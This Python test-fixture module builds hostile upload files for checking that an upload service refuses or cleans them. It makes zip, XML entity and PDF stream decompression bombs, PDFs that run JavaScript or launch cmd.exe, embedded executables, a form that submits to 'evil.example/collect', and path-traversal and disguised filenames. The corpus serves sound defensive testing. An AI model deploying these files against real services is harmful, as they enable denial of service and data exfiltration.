"""Bad upload files (name, bytes, why), hostile ones with what must happen to them, and a seeded
PDF mutator, for tests and benchmarks. Bombs are written in chunks: generating the corpus costs
the test process a few MB, so its memory can be measured around the uploads."""

import io
import random
import struct
import zipfile
import zlib

from tests.security.world import tiny_pdf

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    b"</Types>"
)
DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.'
    b'org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body>'
    b"</w:document>"
)


def make_zip(entries, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as package:
        for name, data in entries.items():
            package.writestr(name, data)
    return out.getvalue()


def docx(extra=None, types=CONTENT_TYPES):
    entries = {"[Content_Types].xml": types, "word/document.xml": DOCUMENT}
    entries.update(extra or {})
    return make_zip(entries)


def declare_unpacked_size(data, size):
    """Rewrite every central-directory entry to claim `size` unpacked bytes (a forged bomb)."""
    data = bytearray(data)
    start = 0
    while (at := data.find(b"PK\x01\x02", start)) != -1:
        struct.pack_into("<I", data, at + 24, size)
        start = at + 4
    return bytes(data)


def encrypted_entry_docx():
    """A .docx whose parts are flagged as encrypted (ZIP traditional encryption bit)."""
    data = bytearray(docx())
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (at := data.find(signature, start)) != -1:
            flags = struct.unpack_from("<H", data, at + flag_offset)[0]
            struct.pack_into("<H", data, at + flag_offset, flags | 0x1)
            start = at + 4
    return bytes(data)


def method_docx(method):
    """A .docx whose parts claim a compression method the reader does not support."""
    data = bytearray(docx())
    for signature, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        start = 0
        while (at := data.find(signature, start)) != -1:
            struct.pack_into("<H", data, at + offset, method)
            start = at + 4
    return bytes(data)


def corrupt_deflate_docx():
    """A .docx whose compressed document bytes are garbage (zlib errors when read)."""
    data = bytearray(docx())
    at = data.find(b"[Content_Types].xml") + len("[Content_Types].xml")
    for offset in range(at, at + 40):
        data[offset] = 0xFF
    return bytes(data)


def encrypted_pdf():
    import pikepdf

    source = pikepdf.open(io.BytesIO(tiny_pdf()))
    out = io.BytesIO()
    source.save(out, encryption=pikepdf.Encryption(owner="o", user="secret", R=6))
    return out.getvalue()


def empty_pdf():
    import pikepdf

    out = io.BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


def bad_files():
    """At least 30 (name, content, reason) triples that must all be refused."""
    pdf = tiny_pdf()
    html = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    )
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200 + b"PE\x00\x00"
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    vba = b"\xcc\x61" + b'Attribute VB_Name = "Module1"\nSub AutoOpen()\nEnd Sub\n'
    macro_types = CONTENT_TYPES.replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    bomb = streamed_docx(b"0" * 1_000_000, 80)
    return [
        ("disguised-html.pdf", html, "HTML named .pdf"),
        ("disguised-html.docx", html, "HTML named .docx"),
        ("polyglot.pdf", b"<html><script>x()</script>%PDF-1.7 not really" + html, "HTML + %PDF"),
        ("image.pdf", svg, "SVG with onload named .pdf"),
        ("image.svg", svg, "SVG"),
        ("paper.pdf", exe, "Windows executable named .pdf"),
        ("paper.docx", exe, "Windows executable named .docx"),
        ("paper.pdf", elf, "Linux executable named .pdf"),
        ("empty.pdf", b"", "empty .pdf"),
        ("empty.docx", b"", "empty .docx"),
        ("macro.docx", docx({"word/vbaProject.bin": vba}, macro_types), "macro-enabled .docx"),
        ("macro2.docx", docx({"word/vbaProject.bin": vba}), "vbaProject.bin only"),
        ("macro.docm", docx({"word/vbaProject.bin": vba}, macro_types), ".docm"),
        ("macro-types.docx", docx(types=macro_types), "vbaProject content type only"),
        ("paper.pdf.exe", pdf, "real PDF with a double extension"),
        ("paper.exe.pdf", exe, "executable with a double extension"),
        ("paper.docx.html", docx(), "real .docx with a double extension"),
        ("x" * 400 + ".pdf", html, "very long name"),
        ("invoice\u202efdp.exe", pdf, "right-to-left override hiding .exe"),
        ("\u202eevil.pdf", exe, "right-to-left override, executable"),
        ("../../../../etc/passwd.pdf", html, "path traversal"),
        ("..\\..\\windows\\win.ini.pdf", b"[fonts]\r\n", "Windows path traversal"),
        ("paper\x00.pdf", html, "NUL in the name"),
        ("bomb.docx", bomb, "zip bomb: 80 MB unpacked"),
        ("forged-bomb.docx", declare_unpacked_size(docx(), 0xFFFFFFF0), "declares 4 GB unpacked"),
        ("encrypted.pdf", encrypted_pdf(), "password-protected PDF"),
        ("truncated.pdf", pdf[: len(pdf) // 3], "truncated PDF"),
        ("header-only.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "PDF header only"),
        ("no-pages.pdf", empty_pdf(), "PDF with no pages"),
        ("not-word.docx", make_zip({"hello.txt": b"hi"}), "zip that is not a .docx"),
        ("archive.pdf", make_zip({"a.txt": b"hi"}), "zip named .pdf"),
        ("old-word.doc", ole, "legacy Word (OLE2)"),
        ("old-word.docx", ole, "OLE2 named .docx"),
        ("letter.docx", b"{\\rtf1\\ansi Hello}", "RTF named .docx"),
        ("notes.txt", b"just text", "plain text"),
        ("photo.pdf", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 100, "JPEG named .pdf"),
        ("locked.docx", encrypted_entry_docx(), "zip entries flagged as encrypted"),
        ("deflate64.docx", method_docx(9), "unsupported zip compression method"),
        ("garbled.docx", corrupt_deflate_docx(), "corrupt deflate stream"),
    ]


def mutate(data, rng, count=None):
    """A random mutation of `data`: flipped, inserted, deleted or duplicated bytes, or a cut."""
    data = bytearray(data)
    for _ in range(count or rng.randint(1, 8)):
        choice = rng.random()
        at = rng.randrange(len(data)) if data else 0
        if choice < 0.4 and data:
            data[at] = rng.randrange(256)
        elif choice < 0.55:
            data[at:at] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 16)))
        elif choice < 0.7 and data:
            del data[at : at + rng.randint(1, 64)]
        elif choice < 0.8 and data:
            end = min(len(data), at + rng.randint(1, 256))
            data[at:at] = data[at:end] * rng.randint(1, 4)
        elif choice < 0.9:
            data = data[: rng.randrange(len(data) + 1)]
        else:
            token = rng.choice([b"obj", b"endobj", b"stream", b"/Length 99999999", b"R", b"<<"])
            data[at:at] = token
    return bytes(data)


def mutated_pdfs(seed, count, base=None):
    rng = random.Random(seed)
    base = base or tiny_pdf("Fuzz base", pages=2)
    for index in range(count):
        yield index, mutate(base, rng)


# ---- Hostile files: each must be refused (with the message given) or cleaned at upload


def streamed_docx(chunk, repeats, *, extra=None, document_prefix=b"", document_suffix=b""):
    """A .docx whose document.xml is `chunk` written `repeats` times, without holding it whole."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES)
        with package.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(document_prefix)
            for _ in range(repeats):
                part.write(chunk)
            part.write(document_suffix)
        for name, data in (extra or {}).items():
            package.writestr(name, data)
    return out.getvalue()


DOCUMENT_START = DOCUMENT.split(b"<w:p>")[0]
DOCUMENT_END = b"</w:body></w:document>"
PARAGRAPH = b"<w:p><w:r><w:t>Community safety partnership report paragraph.</w:t></w:r></w:p>"


def word_bomb(megabytes):
    """A few hundred KB that unpack to `megabytes` MB of real paragraphs (the issue's case)."""
    chunk = PARAGRAPH * (1_000_000 // len(PARAGRAPH))
    return streamed_docx(
        chunk, megabytes, document_prefix=DOCUMENT_START, document_suffix=DOCUMENT_END
    )


def big_image_docx(megabytes):
    """A small document with one "image" part of `megabytes` MB of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES)
        package.writestr("word/document.xml", DOCUMENT)
        with package.open("word/media/image1.png", "w", force_zip64=True) as part:
            for _ in range(megabytes):
                part.write(bytes(1_000_000))
    return out.getvalue()


def lying_size_docx():
    """A .docx whose central directory says document.xml is 100 bytes; it inflates to 20 MB."""
    data = streamed_docx(
        PARAGRAPH * 1000, 250, document_prefix=DOCUMENT_START, document_suffix=DOCUMENT_END
    )
    return declare_unpacked_size(data, 100)


def many_parts_docx(count):
    return docx({f"word/part{index}.xml": b"<x/>" for index in range(count)})


def billion_laughs_docx():
    entities = b'<!ENTITY a0 "lol">' + b"".join(
        b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10)
    )
    document = (
        b'<?xml version="1.0"?><!DOCTYPE w:document ['
        + entities
        + b"]>"
        + DOCUMENT_START.split(b"?>", 1)[1]
        + b"<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>"
        + DOCUMENT_END
    )
    return make_zip({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": document})


def deep_docx(depth):
    """Tables nested `depth` deep: the converter and the sanitiser must not recurse to death."""
    cell = b"<w:tbl><w:tr><w:tc>" * depth + b"<w:p><w:r><w:t>Deep</w:t></w:r></w:p>"
    document = DOCUMENT_START + cell + b"</w:tc></w:tr></w:tbl>" * depth + DOCUMENT_END
    return make_zip({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": document})


def script_docx():
    """Hyperlinks to javascript: and raw HTML-looking text: converted, then sanitised."""
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/hyperlink" Target="javascript:alert(1)" '
        b'TargetMode="External"/></Relationships>'
    )
    body = (
        b'<w:p><w:hyperlink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships" r:id="rId1"><w:r><w:t>Click</w:t></w:r></w:hyperlink></w:p>'
        b"<w:p><w:r><w:t>&lt;script&gt;alert(2)&lt;/script&gt;</w:t></w:r></w:p>"
    )
    document = DOCUMENT_START + body + DOCUMENT_END
    return make_zip(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "word/document.xml": document,
            "word/_rels/document.xml.rels": rels,
        }
    )


def _pdf(build):
    """A one-page PDF (tiny_pdf) changed by `build(pdf)`, saved without recompressing."""
    import pikepdf

    pdf = pikepdf.open(io.BytesIO(tiny_pdf("Hostile")))
    build(pdf)
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def _deflated(total, chunk=1_000_000):
    """`total` bytes of zeros as one zlib stream (`total` a multiple of `chunk`), made quickly:
    after a full flush the compressor starts afresh, so every chunk compresses to the same bytes
    and is compressed once; the end is an empty final block and the Adler-32 of all the zeros."""
    compressor = zlib.compressobj(9)
    zeros = bytes(chunk)
    first = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(total // chunk):
        checksum = zlib.adler32(zeros, checksum)
    return first + repeated * (total // chunk - 1) + b"\x03\x00" + struct.pack(">I", checksum)


def stream_bomb_pdf(megabytes, filters=("/FlateDecode",)):
    import base64

    import pikepdf

    raw = _deflated(megabytes * 1_000_000)
    if filters[0] == "/ASCII85Decode":
        raw = base64.a85encode(raw) + b"~>"

    def build(pdf):
        stream = pikepdf.Stream(pdf, b"")
        names = [pikepdf.Name(f) for f in filters]
        stream.write(raw, filter=names[0] if len(names) == 1 else pikepdf.Array(names))
        pdf.pages[0].Resources.XObject = pikepdf.Dictionary(Blob=stream)
        stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
        stream.BBox = pikepdf.Array([0, 0, 1, 1])

    return _pdf(build)


def many_streams_pdf(count, megabytes):
    """`count` streams of `megabytes` MB each: no one is a bomb, together they are."""
    import pikepdf

    raw = _deflated(megabytes * 1_000_000)

    def build(pdf):
        blobs = pikepdf.Dictionary()
        for index in range(count):
            stream = pikepdf.Stream(pdf, b"")
            stream.write(raw, filter=pikepdf.Name.FlateDecode)
            stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
            stream.BBox = pikepdf.Array([0, 0, 1, 1])
            blobs[f"/B{index}"] = stream
        pdf.pages[0].Resources.XObject = blobs

    return _pdf(build)


def run_length_bomb_pdf(megabytes):
    import pikepdf

    raw = b"\x81\x00" * (megabytes * 1_000_000 // 128) + b"\x80"  # 128 zeros per 2 bytes

    def build(pdf):
        stream = pikepdf.Stream(pdf, b"")
        stream.write(raw, filter=pikepdf.Name.RunLengthDecode)
        pdf.Root.Blob = stream

    return _pdf(build)


def many_pages_pdf(pages, declared=None):
    """`pages` pages sharing one content stream (20,000 pages in about 200 KB)."""
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    first = pdf.pages[0]
    first.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 760 Td (Page) Tj ET")
    kids = [first.obj]
    for _ in range(pages - 1):
        kids.append(
            pdf.make_indirect(
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Page,
                    Parent=pdf.Root.Pages,
                    MediaBox=first.MediaBox,
                    Contents=first.Contents,
                )
            )
        )
    pdf.Root.Pages.Kids = pikepdf.Array(kids)
    pdf.Root.Pages.Count = declared if declared is not None else pages
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def _action(**entries):
    import pikepdf

    return pikepdf.Dictionary(Type=pikepdf.Name.Action, **entries)


def _js(code="app.alert('x')"):
    import pikepdf

    return _action(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def _link(pdf, action):
    import pikepdf

    annotation = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([72, 700, 200, 720]),
            A=action,
        )
    )
    pdf.pages[0].Annots = pikepdf.Array([annotation])


def _embedded_spec(pdf):
    import pikepdf

    payload = pdf.make_stream(b"MZ pretend executable")
    payload.Type = pikepdf.Name.EmbeddedFile
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F=pikepdf.String("run.exe"), EF=pikepdf.Dictionary(F=payload)
    )


def active_pdfs():
    """(name, PDF, why, what the co-ordinator must be told was removed)."""
    import pikepdf

    N = pikepdf.Name
    cases = []

    def case(name, why, *removed):
        """The decorated function builds the PDF `name`, hostile for `why`; cleaning it must tell
        the co-ordinator it removed each of `removed`."""

        def add(build):
            cases.append((name, build, why, set(removed)))
            return build

        return add

    @case("document-js.pdf", "document-level JavaScript", "JavaScript")
    def document_js(pdf):
        tree = pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("x"), pdf.make_indirect(_js())])
        )
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=tree)

    @case(
        "open-js.pdf",
        "JavaScript run on opening",
        "JavaScript",
        "an action run when the file is opened",
    )
    def open_js(pdf):
        pdf.Root.OpenAction = _js()

    @case("open-launch.pdf", "launch action on opening", "actions that launch programs")
    def open_launch(pdf):
        pdf.Root.OpenAction = _action(S=N.Launch, F=pikepdf.String("calc.exe"))

    @case("embedded.pdf", "embedded executable", "embedded files")
    def embedded(pdf):
        tree = pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("run.exe"), _embedded_spec(pdf)])
        )
        pdf.Root.Names = pikepdf.Dictionary(EmbeddedFiles=tree)

    @case("attached.pdf", "file attachment annotation", "embedded files")
    def attachment_annotation(pdf):
        pdf.pages[0].Annots = pikepdf.Array(
            [
                pdf.make_indirect(
                    pikepdf.Dictionary(
                        Type=N.Annot,
                        Subtype=N.FileAttachment,
                        Rect=pikepdf.Array([0, 0, 10, 10]),
                        FS=_embedded_spec(pdf),
                    )
                )
            ]
        )

    @case(
        "page-aa.pdf",
        "JavaScript when a page opens (AA)",
        "actions run automatically (on opening a page or a field)",
    )
    def page_aa(pdf):
        pdf.pages[0].AA = pikepdf.Dictionary(O=_js())

    @case("link-js.pdf", "link running JavaScript", "JavaScript")
    def link_js(pdf):
        _link(pdf, _js())

    @case("link-uri-js.pdf", "javascript: link", "JavaScript")
    def link_uri_js(pdf):
        _link(pdf, _action(S=N.URI, URI=pikepdf.String("javascript:alert(1)")))

    @case("link-launch.pdf", "link launching cmd.exe", "actions that launch programs")
    def link_launch(pdf):
        _link(pdf, _action(S=N.Launch, Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"))))

    @case("link-next.pdf", "harmless link chaining JavaScript", "JavaScript")
    def link_next_js(pdf):
        _link(pdf, _action(S=N.URI, URI=pikepdf.String("https://example.org/"), Next=_js()))

    @case("goto-remote.pdf", "link opening a remote file", "links that open other files")
    def goto_remote(pdf):
        _link(
            pdf,
            _action(
                S=N.GoToR, F=pikepdf.String("\\\\evil\\share\\x.pdf"), D=pikepdf.Array([0, N.Fit])
            ),
        )

    @case("submit.pdf", "form submission to another site", "form actions that read or send data")
    def submit_form(pdf):
        _link(pdf, _action(S=N.SubmitForm, F=pikepdf.String("https://evil.example/collect")))

    @case("xfa.pdf", "XFA form with script", "XFA forms")
    def xfa(pdf):
        pdf.Root.AcroForm = pikepdf.Dictionary(
            Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp><script>x()</script></xdp:xdp>")
        )

    @case("rich-media.pdf", "RichMedia (Flash) annotation", "multimedia")
    def rich_media(pdf):
        pdf.pages[0].Annots = pikepdf.Array(
            [
                pikepdf.Dictionary(
                    Type=N.Annot, Subtype=N.RichMedia, Rect=pikepdf.Array([0, 0, 9, 9])
                )
            ]
        )

    @case("outline-js.pdf", "bookmark running JavaScript", "JavaScript")
    def outline_js(pdf):
        item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Open me"), A=_js()))
        outlines = pdf.make_indirect(
            pikepdf.Dictionary(Type=N.Outlines, First=item, Last=item, Count=1)
        )
        item.Parent = outlines
        pdf.Root.Outlines = outlines

    @case(
        "everything.pdf",
        "all of the above at once",
        "JavaScript",
        "actions that launch programs",
        "XFA forms",
    )
    def everything(pdf):
        for build in (document_js, open_launch, page_aa, link_js, xfa):
            build(pdf)

    return [(name, _pdf(build), why, removed) for name, build, why, removed in cases]


def hostile_files():
    """(name, content, why, expected): `expected` is the message a refusal must show, or the set
    of things the co-ordinator must be told were removed from a file that is cleaned. With
    bad_files() (all refused) this makes the corpus of at least 50."""
    unpacks = "unpacks to more than"
    damaged = "is damaged and cannot be read"
    refused = [
        (
            "word-bomb.docx",
            word_bomb(55),
            "197 KB-style .docx: 55 MB of paragraphs",
            "text and layout unpack",
        ),
        (
            "word-bomb-small.docx",
            word_bomb(12),
            ".docx: 12 MB of paragraphs",
            "text and layout unpack",
        ),
        ("image-bomb.docx", big_image_docx(70), ".docx with a 70 MB part of zeros", unpacks),
        (
            "lying-size.docx",
            lying_size_docx(),
            ".docx whose part is 200,000 times its declared size",
            damaged,
        ),
        ("many-parts.docx", many_parts_docx(2_500), ".docx with 2,500 parts", "too many parts"),
        ("laughs.docx", billion_laughs_docx(), "billion laughs entities in document.xml", damaged),
        (
            "not-xml.docx",
            make_zip(
                {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<w:document><w:body"}
            ),
            "malformed document.xml",
            damaged,
        ),
        ("truncated.docx", docx()[: len(docx()) // 2], "truncated .docx", damaged),
        ("really-word.pdf", docx(), "real .docx named .pdf", "Only PDF files and Word documents"),
        ("really-pdf.docx", tiny_pdf(), "real PDF named .docx", "name does not end in .pdf"),
        ("stream-bomb.pdf", stream_bomb_pdf(1000), "1 MB PDF holding a 1 GB stream", unpacks),
        (
            "a85-bomb.pdf",
            stream_bomb_pdf(200, ("/ASCII85Decode", "/FlateDecode")),
            "ASCII85 + Flate bomb",
            unpacks,
        ),
        ("run-length-bomb.pdf", run_length_bomb_pdf(100), "RunLength stream of 100 MB", unpacks),
        ("many-streams.pdf", many_streams_pdf(80, 1), "80 streams of 1 MB each", unpacks),
        (
            "20000-pages.pdf",
            many_pages_pdf(20_000),
            "20,000 pages in a small file",
            "pages; the limit is",
        ),
        (
            "lying-count.pdf",
            many_pages_pdf(1_500, declared=1),
            "1,500 pages declaring 1",
            "pages; the limit is",
        ),
        ("deep.docx", deep_docx(200), "tables nested 200 deep", damaged),
    ]
    active = active_pdfs()
    cleaned = [
        *active,
        # qpdf rebuilds what it can of the first 400 bytes: the JavaScript is in them.
        ("truncated-js.pdf", active[0][1][:400], "truncated PDF with JavaScript", {"JavaScript"}),
        # Word files are cleaned by the sanitiser: nothing to report, nothing live stored.
        ("script.docx", script_docx(), "javascript: link and script-looking text", set()),
    ]
    return refused + cleaned
